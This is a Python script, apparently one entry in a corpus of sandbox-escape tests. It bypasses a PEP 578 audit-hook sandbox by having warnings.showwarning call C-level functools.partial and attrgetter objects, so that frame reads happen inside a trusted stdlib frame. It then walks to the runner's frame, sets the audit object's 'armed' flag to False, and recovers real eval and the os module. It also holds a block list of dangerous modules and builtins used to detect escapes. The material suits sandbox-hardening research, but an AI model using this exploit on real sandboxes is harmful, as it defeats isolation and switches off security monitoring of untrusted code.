# technique: the real C operator.attrgetter class of 184 (type(operator.attrgetter('x'))) driven from a frame the audit hook trusts for frame reads: warnings.showwarning = f is written through to the real warnings module, and warnings._showwarnmsg calls it from warnings.py's own frame; with f = functools.partial(set.update, found, map(AG('gi_frame.f_back.f_back'), [g])) (all C: no Python frame is pushed), set.update drains the map inside that call, so the gi_frame read (object.__getattr__ event) is made while warnings' frame is current and passes; g is the running generator that called warnings.warn, so the chain reaches the runner's run() frame; its f_globals (not audited) hold the real builtins, os and sys modules, its f_locals the _Audit instance: audit.armed = False, then the real eval and __import__('os') work
# source: frame-based trust in Python audit hooks (PEP 578) defeated by trusted stdlib code calling a C callable the snippet supplies (functools.partial/map/set.update: the call happens "in a trusted frame"); 167 (running generator frame -> runner frame -> audit state); 175 (warnings callbacks)
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import operator, functools, warnings

AG = type(operator.attrgetter('x'))  # the real C class (184)
found = set()
holder = []
chain = 'gi_' + 'frame.f_' + 'back.f_' + 'back'  # generator -> snippet -> runner's run()


def gen():
    g = holder[0]
    # called by warnings._showwarnmsg in warnings.py's frame; set.update
    # drains the map there, the attribute reads happen in that frame
    warnings.showwarning = functools.partial(set.update, found, map(AG(chain), [g]))
    warnings.warn('x')
    yield 1


g = gen()
holder.append(g)
try:
    next(g)
except BaseException as e:
    pass  # set.update then fails on the warning message: the map is drained already

frames = list(found)
if frames and check('runner run() frame through warnings.showwarning', frames[0]):
    runner = frames[0]
    G = AG('f_' + 'globals')(runner)  # not audited by CPython 3.11
    L = AG('f_' + 'locals')(runner)
    check('runner globals _b', G['_b'])
    check('runner globals _os', G['_os'])
    audit = L['audit']
    audit.armed = False
    real_builtins = G['_b']
    check('real eval after disarming the audit hook', AG('ev' + 'al')(real_builtins))
    attempt('os through the real __import__',
            lambda: AG(dn('import'))(real_builtins)('os'))
else:
    print('BLOCKED runner frame: nothing collected')
